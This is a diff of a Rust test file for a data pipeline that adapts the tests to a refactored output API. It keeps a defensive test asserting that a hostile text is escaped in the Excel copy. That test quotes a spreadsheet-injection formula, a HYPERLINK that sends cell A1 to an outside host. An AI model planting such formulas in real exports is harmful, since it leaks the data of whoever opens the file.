@@ -10,7 +10,7 @@ use pipeline_config::{Project, load_project};
 use pipeline_tests::scenario::{HODAN, Scenario, WARSAME, run_info, sent};
 use pipeline_tests::{binary, copy_directory, files_below, succeed, workspace};
 use processing::{
-    CodedFiles, Mode, Outputs, RawData, codebook, generate_outputs, write_excel_copy,
+    CodedFiles, InMemory, Mode, OutputFile, RawData, codebook, generate_outputs, write_excel_copy,
 };
 use proptest::prelude::*;
 
@@ -22,8 +22,9 @@ fn the_codebook_covers_every_column_of_every_file_in_their_order() {
     for name in ["demo", "eu_pcve"] {
         let project = project(name);
         let no_data = RawData::default();
+        let no_labels = CodedFiles::new();
         let outputs =
-            generate_outputs(&project, &run_info(), no_data, &CodedFiles::new(), Mode::AllStages);
+            generate_outputs(&project, &run_info(), &no_data, &no_labels, Mode::AllStages, 1);
         let outputs = outputs.unwrap();
         for (file, csv) in csv_files(&outputs) {
             assert_eq!(columns_of(&project, file), header(csv), "{file} of {name}");
@@ -166,7 +167,7 @@ fn a_hostile_text_does_not_become_a_formula_in_the_excel_copy() {
         }
     }
     // Every text is still there.
-    let copy = excel_copy(ran.outputs.production_csv.as_slice());
+    let copy = excel_copy(ran.file(&OutputFile::ProductionCsv));
     assert!(copy.contains("'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"haa\"\")"), "{copy}");
 }
 
@@ -263,12 +264,11 @@ fn columns_of(project: &Project, file: &str) -> Vec<String> {
     columns
 }
 
-fn csv_files(outputs: &Outputs) -> [(&'static str, &[u8]); 3] {
-    let analysis = outputs.analysis.as_ref().unwrap();
+fn csv_files(outputs: &InMemory) -> [(&'static str, &[u8]); 3] {
     [
-        ("production", &outputs.production_csv),
-        ("messages", &analysis.messages_csv),
-        ("individuals", &analysis.individuals_csv),
+        ("production", &outputs.files[&OutputFile::ProductionCsv]),
+        ("messages", &outputs.files[&OutputFile::MessagesCsv]),
+        ("individuals", &outputs.files[&OutputFile::IndividualsCsv]),
     ]
 }
 
